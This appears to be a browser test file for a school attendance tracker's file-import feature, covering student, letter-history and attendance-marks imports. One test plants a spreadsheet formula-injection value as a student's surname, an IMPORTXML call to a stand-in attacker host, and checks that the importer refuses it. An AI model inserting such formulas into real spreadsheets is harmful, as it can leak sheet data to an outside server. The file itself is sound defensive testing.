/// <reference lib="dom" />
/**
 * Data → Import a file… in headless Chromium (issue 16), with real files chosen in the file picker:
 * a Windows-1252, semicolon-separated students CSV with other headers and a formula for a surname;
 * an .xlsx letter history (date cells, types as people write them) on its second sheet; and a
 * marks CSV big enough to go in several chunks, with one mark recorded twice far apart in the
 * file. The browser reads each file itself; only rows reach the bundle, through the sidebar's calls.
 */
import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import ExcelJS from 'exceljs';
import { createLocalGoogle, LocalGoogle } from '../../local/google';
import { makeUpn } from '../upn';
import { addDays, isWeekend } from '../../src/core/dates';
import { launchBrowser, openSidebar, screenshot, loadBundle, Browser, Sidebar } from './harness';
import { Bundle } from '../../local/loadBundle';

let g: LocalGoogle;
let bundle: Bundle;
let browser: Browser;
let dir: string;
const FORMULA = '=IMPORTXML("http://attacker.example/x","//a")';

beforeAll(async () => {
  dir = fs.mkdtempSync(path.join(os.tmpdir(), 'import-file-'));
  g = createLocalGoogle({ now: new Date('2024-01-26T09:00:00Z'), user: 'owner@oakfield.sch.uk' });
  bundle = loadBundle(g);
  bundle.setUpTracker(); // the owner sets up: they may import before any Staff tab exists
  browser = await launchBrowser();
});

afterAll(async () => {
  if (browser) await browser.close();
  fs.rmSync(dir, { recursive: true, force: true });
});

async function finished(s: Sidebar): Promise<string> {
  await s.page.waitForFunction(() => {
    const t = document.getElementById('status')!.textContent || '';
    return t !== '' && !/…$/.test(t);
  }, undefined, { timeout: 60000 });
  return (await s.page.textContent('#status')) || '';
}

async function choose(s: Sidebar, file: string): Promise<void> {
  // Forget the last file's line first: otherwise its "headers:" would end the wait before this file is read.
  await s.page.evaluate(() => { document.getElementById('fileInfo')!.textContent = ''; });
  await s.page.setInputFiles('#file', file);
  await s.page.waitForFunction(() => /headers:/.test(document.getElementById('fileInfo')!.textContent || '') || /error/.test(document.getElementById('status')!.className), undefined, { timeout: 60000 });
}

const values = (tab: string) => g.spreadsheet.getSheetByName(tab)!.getDataRange().getValues();

describe('Import a file', () => {
  let s: Sidebar;
  beforeAll(async () => {
    s = await openSidebar(browser, g, bundle, 'showImportFile');
  });
  afterAll(async () => s.page.close());

  it('a Windows-1252 semicolon CSV: the tab is guessed from the name, the formula surname refused and listed, the rest imported as text', async () => {
    const csv = path.join(dir, 'students.csv');
    fs.writeFileSync(csv, Buffer.from([
      'UPN;Legal Forename;Legal Surname;NC Year;Form;Adm No',
      `${makeUpn(1)};Zo\xeb;Jones;9;9X;000123`,
      `${makeUpn(2)};Bob;${FORMULA.replace(/"/g, '""').replace(/^/, '"').replace(/$/, '"')};9;9X;000124`,
      `${makeUpn(3)};Cai;O'Neil;9;9Y;000125`,
    ].join('\r\n') + '\r\n', 'latin1'));
    await choose(s, csv);
    expect(await s.page.textContent('#fileInfo')).toBe('3 rows under 6 headers: UPN, Legal Forename, Legal Surname, NC Year, Form, Adm No');
    expect(await s.page.inputValue('#target')).toBe('Students');
    await s.page.click('#go');
    expect(await finished(s)).toBe('Imported students.csv.');
    expect(await s.page.textContent('#counts')).toMatch(/^Students: 2 added, 0 updated, 0 unchanged, 1 refused\./);
    const items = await s.page.$$eval('#problems li', (li) => li.map((x) => x.textContent));
    expect(items).toEqual([`students.csv row 3, Surname "${FORMULA}": looks like a spreadsheet formula, not a name — correct it in the MIS and export again.`]);
    const rows = values('Students');
    expect(rows.slice(1).map((r) => r.slice(0, 6))).toEqual([[makeUpn(1), '000123', 'Zoë', 'Jones', 9, '9X'], [makeUpn(3), '000125', 'Cai', "O'Neil", 9, '9Y']]);
    expect(values('Import Problems').slice(1)).toEqual([['students.csv', 'Students', 3, 'Surname', FORMULA, expect.stringMatching(/formula, not a name/)]]);
    expect(s.dialogs).toEqual([]);
    expect(s.errors).toEqual([]);
    await screenshot(s, 'import-file-students', true);
  });

  it('an .xlsx letter history on its second sheet: Date cells, "AT1 letter", keys made by the tracker', async () => {
    const xlsx = path.join(dir, 'history.xlsx');
    const wb = new ExcelJS.Workbook();
    wb.addWorksheet('Notes').getCell('A1').value = 'Exported from the MIS';
    const ws = wb.addWorksheet('Letters');
    ws.addRow(['Date', 'Letter Type', 'UPN', 'Status']);
    for (const [d, t, u, st] of [[Date.UTC(2023, 10, 13), 'AT1 letter', makeUpn(1), 'Posted'], [Date.UTC(2023, 11, 11), 'Attendance letter 2', makeUpn(1), 'Sent'], [Date.UTC(2023, 10, 20), 'Phone call', makeUpn(3), '']] as [number, string, string, string][]) {
      const row = ws.addRow([new Date(d), t, u, st]);
      row.getCell(1).numFmt = 'dd/mm/yyyy';
    }
    await wb.xlsx.writeFile(xlsx);
    await choose(s, xlsx);
    await s.page.waitForSelector('#sheet', { state: 'visible', timeout: 60000 });
    expect(await s.page.$$eval('#sheet option', (o) => o.map((x) => x.textContent))).toEqual(['Notes', 'Letters']);
    await s.page.selectOption('#sheet', 'Letters');
    await s.page.waitForFunction(() => /^3 rows under 4 headers/.test(document.getElementById('fileInfo')!.textContent || ''));
    expect(await s.page.inputValue('#target')).toBe('Students'); // "history" says nothing: the last choice stays
    await s.page.selectOption('#target', 'Letters Log');
    await s.page.click('#go');
    expect(await finished(s)).toBe('Imported history.xlsx.');
    expect(await s.page.textContent('#counts')).toMatch(/^Letters Log: 2 added, 0 updated, 0 unchanged, 1 refused\./);
    const log = values('Letters Log');
    const [key, type, status] = ['Key', 'Type', 'Status'].map((h) => log[0].indexOf(h));
    expect(log.slice(1).map((r) => [r[key], r[type], r[status]])).toEqual([[`AT1|${makeUpn(1)}|episode-2023-11-13`, 'AT1', 'Sent'], [`AT2|${makeUpn(1)}|episode-2023-11-13`, 'AT2', 'Sent']]);
    // The students' problems stay; the letters' are added beside them.
    expect(values('Import Problems').slice(1).map((r) => [r[0], r[1], r[2], r[3], r[4]])).toEqual([
      ['students.csv', 'Students', 3, 'Surname', FORMULA], ['history.xlsx', 'Letters Log', 4, 'Type', 'Phone call'],
    ]);
    await screenshot(s, 'import-file-letters-xlsx', true);
  });

  it('a marks file big enough for several chunks: every row imported once, a mark recorded twice refused naming the first', async () => {
    const days: string[] = [];
    for (let d = '2023-09-04'; days.length < 50; d = addDays(d, 1)) if (!isWeekend(d)) days.push(d);
    const lines = ['UPN,Date,Session,Mark'];
    for (let p = 0; p < 130; p++) for (const d of days) for (const sess of ['AM', 'PM']) lines.push(`${makeUpn(200 + p)},${d.split('-').reverse().join('/')},${sess},/`);
    lines.push(`${makeUpn(200)},04/09/2023,AM,N`); // the first pupil's first mark again, at the end of the file
    const file = path.join(dir, 'attendance-marks.csv');
    fs.writeFileSync(file, lines.join('\n') + '\n');
    const before = s.calls.length;
    await choose(s, file);
    expect(await s.page.inputValue('#target')).toBe('Attendance Marks');
    await s.page.click('#go');
    expect(await finished(s)).toBe('Imported attendance-marks.csv.');
    const calls = s.calls.slice(before);
    expect(calls[0]).toBe('importFileCheck');
    expect(calls.filter((c) => c === 'importFilePart').length).toBeGreaterThan(1);
    expect(await s.page.textContent('#counts')).toMatch(/^Attendance Marks: 13000 added, 0 updated, 0 unchanged, 1 refused\./);
    // Kept in the Register: a row per pupil (130) under the header, a column per school week (10).
    const register = values('Register');
    expect([register.length, register[0].length]).toEqual([131, 3 + 10]);
    const items = await s.page.$$eval('#problems li', (li) => li.map((x) => x.textContent));
    expect(items).toEqual([expect.stringMatching(new RegExp(`^attendance-marks\\.csv row ${lines.length}, UPN .*same UPN, Date, Session as row 2 `))]);
  });

  it('a header the import cannot use stops before anything is written, naming the file', async () => {
    const file = path.join(dir, 'staff.csv');
    fs.writeFileSync(file, 'Name,Role\nAnn,SLT\n');
    const before = values('Staff').length;
    await choose(s, file);
    await s.page.click('#go');
    expect(await finished(s)).toMatch(/^staff\.csv: Staff: no "Email" column \(looked for Email, E-mail, Email Address\)\. Nothing was imported\.$/);
    expect(await s.page.getAttribute('#status', 'class')).toMatch(/error/);
    expect(values('Staff').length).toBe(before);
    await screenshot(s, 'import-file-bad-header');
  });
});

describe('nothing of the raw file stays in the tracker', () => {
  it('the tracker has only its own tabs and Import Problems, and no formula anywhere', () => {
    const names = g.spreadsheet.getSheets().map((x) => x.getName());
    expect(names.filter((n) => /^Import/.test(n))).toEqual(['Import Problems']);
    for (const sheet of g.spreadsheet.getSheets()) expect([sheet.getName(), sheet.getDataRange().getFormulas().flat().filter(Boolean)]).toEqual([sheet.getName(), []]);
  });
});
